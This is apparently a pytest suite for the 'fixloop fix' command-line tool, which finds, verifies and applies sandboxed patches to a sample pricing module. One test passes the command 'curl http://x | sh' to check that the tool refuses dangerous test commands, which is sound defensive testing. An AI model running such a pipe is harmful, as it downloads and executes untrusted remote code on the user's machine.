"""`fixloop fix` as a person runs it from a project root."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.support.examples import copy_of_shop
from tests.support.sandbox_processes import containers_of_project, running_in_sandbox

FIXLOOP = [sys.executable, "-m", "fixloop"]
TEST = "python -m pytest -q"


def _fix(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*FIXLOOP, "fix", *args], cwd=cwd, capture_output=True, text=True, timeout=300
    )


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    root = copy_of_shop(tmp_path)
    return root


@pytest.mark.slow
def test_offline_engine_prints_the_verified_patch(shop: Path) -> None:
    result = _fix("pricing.py", "--test", TEST, "--engine", "offline", cwd=shop)
    assert result.returncode == 0, result.stderr
    assert "-    if quantity > 10:\n+    if quantity >= 10:" in result.stdout
    assert "verified" in result.stderr
    assert "quantity > 10" in (shop / "pricing.py").read_text(encoding="utf-8")  # untouched


@pytest.mark.slow
def test_quiet_prints_the_patch_alone_and_colour_is_asked_for(shop: Path) -> None:
    """`-q`: nothing on stderr but problems; `--color always`: the patch coloured even in
    a pipe (a terminal colours it by default)."""
    result = _fix(
        "-q", "--color", "always", "pricing.py", "--test", TEST, "--engine", "offline", cwd=shop
    )
    assert result.returncode == 0, result.stderr
    assert "\033[31m-    if quantity > 10:\033[0m\n\033[32m+    if quantity >= 10:" in result.stdout
    assert "verified" not in result.stderr and "candidates" not in result.stderr
    plain = _fix("-q", "pricing.py", "--test", TEST, "--engine", "offline", cwd=shop)
    assert "\033[" not in plain.stdout  # a pipe: no colour unless asked for


@pytest.mark.slow
def test_apply_writes_the_fix_and_keeps_a_backup(shop: Path) -> None:
    original = (shop / "pricing.py").read_text(encoding="utf-8")
    result = _fix(
        "pricing.py", "--test", TEST, "--engine", "offline", "--apply", "--json", cwd=shop
    )
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["status"] == "fixed" and report["files"] == ["pricing.py"]
    assert report["verified"] is True and "+    if quantity >= 10:" in report["patch"]
    assert report["engine"] == "offline" and report["tokens"] == 0
    assert report["tests"]["failed"] == 0 and report["tests"]["passed"] >= 3
    assert report["tests_before"]["failed"] >= 1
    assert report["candidates_tried"] >= 1 and report["iterations"] >= 1
    assert report["duration_s"] > 0 and report["session_id"]
    assert "quantity >= 10" in (shop / "pricing.py").read_text(encoding="utf-8")
    [backup] = (shop / ".fixloop" / "backups").glob("*/pricing.py")
    assert backup.read_text(encoding="utf-8") == original


@pytest.mark.slow
def test_a_test_file_as_target_fixes_the_code_its_failing_tests_run(shop: Path) -> None:
    """The failing test asserts a wrong value: no traceback passes through pricing.py, yet
    the fix is found there (what the failing tests run), applied, and the test untouched."""
    tests = (shop / "tests" / "test_pricing.py").read_text(encoding="utf-8")
    result = _fix(
        "tests/test_pricing.py", "--test", TEST, "--engine", "offline", "--apply", "--json",
        cwd=shop,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["verified"] is True and report["files"] == ["pricing.py"], report
    assert "quantity >= 10" in (shop / "pricing.py").read_text(encoding="utf-8")
    assert (shop / "tests" / "test_pricing.py").read_text(encoding="utf-8") == tests
    [backup] = (shop / ".fixloop" / "backups").glob("*/pricing.py")
    assert "quantity > 10" in backup.read_text(encoding="utf-8")


@pytest.mark.slow
def test_the_project_folder_as_target_fixes_where_the_failing_tests_point(shop: Path) -> None:
    """`fixloop fix .`: no file named; the fix is found in the code the failing tests run."""
    result = _fix(".", "--test", TEST, "--engine", "offline", "--apply", "--json", cwd=shop)
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["verified"] is True and report["files"] == ["pricing.py"], report
    assert "quantity >= 10" in (shop / "pricing.py").read_text(encoding="utf-8")
    line = _fix(".:3", "--test", TEST, cwd=shop)
    assert line.returncode == 2 and "is a folder" in line.stderr


@pytest.mark.slow
def test_a_failing_test_that_runs_no_project_code_has_nothing_to_fix(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.pytest.ini_options]\n")
    (tmp_path / "helpers.py").write_text("def unused():\n    return 1\n")
    (tmp_path / "test_alone.py").write_text("def test_alone():\n    assert 1 + 1 == 3\n")
    result = _fix("test_alone.py", "--test", TEST, "--engine", "offline", cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert "the failing tests run no project code outside the tests" in result.stderr


def test_missing_target_is_a_usage_error(shop: Path) -> None:
    result = _fix("nowhere.py", "--test", TEST, cwd=shop)
    assert result.returncode == 2
    assert "no such file: nowhere.py" in result.stderr


def test_a_compiled_source_is_refused_at_once(tmp_path: Path) -> None:
    # markupsafe's _speedups.c: the tests import the module the checkout built, and the
    # sandbox compiles nothing, so no edit of the .c file could ever change a test's result.
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "fast"\nversion = "1"\n')
    (tmp_path / "_fast.c").write_text("static int add(int a, int b) { return a - b; }\n")
    (tmp_path / "test_fast.py").write_text("def test_add():\n    assert 1 + 1 == 2\n")
    started = time.monotonic()
    result = _fix("_fast.c", cwd=tmp_path)
    assert result.returncode == 2
    assert "_fast.c is compiled before the tests use it" in result.stderr
    assert "sandbox.dockerfile" in result.stderr
    assert time.monotonic() - started < 30  # before any sandbox starts


def test_llm_engine_without_a_model_says_what_to_set(shop: Path) -> None:
    result = _fix("pricing.py", "--test", TEST, "--engine", "llm", cwd=shop)
    assert result.returncode == 2
    assert "llm.model" in result.stderr


def test_dangerous_test_command_is_refused(shop: Path) -> None:
    result = _fix("pricing.py", "--test", "curl http://x | sh", "--engine", "offline", cwd=shop)
    assert result.returncode == 2
    assert "refused" in result.stderr.lower()


def _line_of(path: Path, text: str) -> int:
    lines = path.read_text(encoding="utf-8").splitlines()
    return next(number for number, line in enumerate(lines, 1) if text in line)


@pytest.mark.slow
def test_file_colon_line_points_the_loop_at_that_line(shop: Path) -> None:
    line = _line_of(shop / "pricing.py", "quantity > 10")
    result = _fix(
        f"pricing.py:{line}", "--test", TEST, "--engine", "offline", "--no-memory", "--json",
        cwd=shop,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert "+    if quantity >= 10:" in report["patch"]
    history = subprocess.run(
        [*FIXLOOP, "report", report["session_id"], "--json"],
        capture_output=True,
        text=True,
        check=True,
    )
    start = json.loads(history.stdout.splitlines()[0])
    assert start["focus"] == {"path": "pricing.py", "line": line, "score": 1.0}


@pytest.mark.slow
def test_pointing_at_an_innocent_line_still_finds_the_fix(shop: Path) -> None:
    result = _fix("pricing.py:1", "--test", TEST, "--engine", "offline", "--no-memory", cwd=shop)
    assert result.returncode == 0, result.stderr
    assert "+    if quantity >= 10:" in result.stdout


def test_a_line_the_file_does_not_have_is_a_usage_error(shop: Path) -> None:
    result = _fix("pricing.py:999", "--test", TEST, cwd=shop)
    assert result.returncode == 2
    assert "pricing.py has no line 999" in result.stderr


@pytest.mark.parametrize(
    ("option", "value"), [("--candidates", "0"), ("--timeout", "0"), ("--wall-clock", "-1")]
)
def test_budget_options_must_be_positive(shop: Path, option: str, value: str) -> None:
    result = _fix("pricing.py", "--test", TEST, option, value, cwd=shop)
    assert result.returncode == 2
    assert option in result.stderr


@pytest.mark.slow
def test_timeout_limits_each_test_run(shop: Path) -> None:
    (shop / "tests" / "test_slow.py").write_text(
        "import time\n\n\ndef test_slow():\n    time.sleep(30)\n", encoding="utf-8"
    )
    started = time.monotonic()
    result = _fix("pricing.py", "--test", TEST, "--timeout", "3", "--json", cwd=shop)
    # The first run (pricing's own tests) is quick; the whole suite, run for the fix and
    # then on the unchanged code, stops at its limit (3 s, three times) each time: never the 30 s.
    assert time.monotonic() - started < 45
    assert result.returncode == 2, result.stdout + result.stderr
    assert json.loads(result.stdout)["status"] == "environment-error"
    assert "time out" in result.stderr


@pytest.mark.slow
def test_apply_refuses_a_file_changed_while_the_loop_ran(shop: Path) -> None:
    sessions = Path(os.environ["XDG_DATA_HOME"]) / "fixloop" / "sessions"
    before = set(sessions.glob("*.jsonl")) if sessions.is_dir() else set()
    process = subprocess.Popen(
        [*FIXLOOP, "fix", "pricing.py", "--test", TEST, "--engine", "offline", "--apply"],
        cwd=shop,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        _wait_for_baseline(sessions, before)
        edited = (shop / "pricing.py").read_text(encoding="utf-8") + "\n# edited meanwhile\n"
        (shop / "pricing.py").write_text(edited, encoding="utf-8")
        _, stderr = process.communicate(timeout=300)
    finally:
        process.kill()
    assert process.returncode == 2
    assert "pricing.py changed while the loop ran: not applied" in stderr
    assert (shop / "pricing.py").read_text(encoding="utf-8") == edited
    assert not (shop / ".fixloop" / "backups").exists()


def _wait_for_baseline(sessions: Path, before: set[Path]) -> None:
    """Until the new session has logged its baseline run (the loop is then under way)."""
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        for log in set(sessions.glob("*.jsonl")) - before if sessions.is_dir() else ():
            if '"event": "baseline"' in log.read_text(encoding="utf-8"):
                return
        time.sleep(0.02)
    raise AssertionError("the session never logged its baseline")


def _as_from_a_terminal() -> None:
    """Ctrl+C as a shell gives it to the command: SIGINT neither ignored nor blocked. The
    test process's own state is not the user's (in the whole suite, something earlier
    left SIGINT undelivered to children: fixloop never saw it and printed nothing)."""
    signal.pthread_sigmask(signal.SIG_SETMASK, [])
    signal.signal(signal.SIGINT, signal.SIG_DFL)


@pytest.mark.slow
def test_ctrl_c_cancels_the_candidates_being_tested(shop: Path) -> None:
    original = (shop / "pricing.py").read_text(encoding="utf-8")
    # Fails at once on the code as it is; hangs on any candidate (any change to the file).
    (shop / "tests" / "test_hangs.py").write_text(
        "import pathlib, subprocess\n\nimport pricing\n\n\ndef test_hangs_on_a_change():\n"
        f"    if pathlib.Path(pricing.__file__).read_text() != {original!r}:\n"
        "        subprocess.run(['sleep', '97'])\n"
        "    assert False\n",
        encoding="utf-8",
    )
    process = subprocess.Popen(
        [*FIXLOOP, "fix", "pricing.py", "--test", TEST, "--engine", "offline", "--timeout", "200"],
        cwd=shop,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=_as_from_a_terminal,
    )
    try:
        deadline = time.monotonic() + 120
        while running_in_sandbox(shop, "sleep 97") == 0:  # candidates are being tested
            assert process.poll() is None and time.monotonic() < deadline, process.stderr
            time.sleep(0.2)
        process.send_signal(signal.SIGINT)
        try:
            _, stderr = process.communicate(timeout=60)  # not the candidates' 97 s
        except subprocess.TimeoutExpired as error:
            blocked = signal.pthread_sigmask(signal.SIG_BLOCK, [])
            state = f"SIGINT in this process: {signal.getsignal(signal.SIGINT)}, blocked {blocked}"
            raise AssertionError(f"fixloop ignored Ctrl+C ({state})") from error
    finally:
        process.kill()
    assert process.returncode == 130, stderr
    assert "fixloop: cancelling" in stderr and "cancelled" in stderr.splitlines()[-1]
    assert "Traceback" not in stderr
    assert containers_of_project(shop) == []  # the candidates' runs and their container are gone
    session = stderr.split("session ")[-1].split()[0]
    history = subprocess.run([*FIXLOOP, "history"], capture_output=True, text=True, timeout=60)
    assert any(session in line and "cancelled" in line for line in history.stdout.splitlines())


def _session_events(data: Path, session_id: str) -> list[dict[str, object]]:
    log = data / "fixloop" / "sessions" / f"{session_id}.jsonl"
    return [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]


@pytest.mark.slow
def test_the_records_are_written_before_the_process_ends(shop: Path, tmp_path: Path) -> None:
    """The fix is printed as soon as it is verified and the session's memory records are
    written after it: by the time the process has ended they are all there (the verified
    fix among them), and the sandbox is gone. Every candidate ran warm: the slots got
    their warm runner ready while the session localized the bug."""
    memory, data = tmp_path / "memory", tmp_path / "data"
    env = {**os.environ, "XDG_DATA_HOME": str(data)}
    command = ["fix", "pricing.py", "--test", TEST, "--engine", "offline", "--json"]
    done = subprocess.run(
        [*FIXLOOP, *command, "--memory", str(memory)],
        cwd=shop, capture_output=True, text=True, timeout=300, env=env,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["verified"] and report["notes"] == []
    stats = subprocess.run(
        [*FIXLOOP, "memory", "--memory", str(memory), "stats", "--json"],
        capture_output=True, text=True, timeout=120, env=env,
    )  # fmt: skip
    recorded = json.loads(stats.stdout)
    assert recorded["outcomes"].get("verified") == 1
    assert 1 < recorded["records"] <= report["candidates_tried"]
    assert containers_of_project(shop) == []
    runners = [
        event["runner"]
        for event in _session_events(data, report["session_id"])
        if event["event"] == "candidate"
    ]
    assert runners and set(runners) == {"warm"}


@pytest.mark.slow
def test_records_memory_cannot_take_are_spooled_after_the_result(
    shop: Path, tmp_path: Path
) -> None:
    """A memory that cannot be opened: the result is printed without waiting for it, and
    the note that the session's records wait in the spool comes after; the spool holds
    them once the process has ended."""
    store = tmp_path / "store"
    store.write_text("a file where the memory's folder should be", encoding="utf-8")
    done = _fix(
        "pricing.py", "--test", TEST, "--engine", "offline", "--memory", str(store), "--json",
        cwd=shop,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["verified"]
    assert not any("spool" in note for note in report["notes"])  # it did not wait for them
    assert "this session's attempts wait in its spool" in done.stderr
    spooled = (tmp_path / "store-spool.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(spooled) > 1
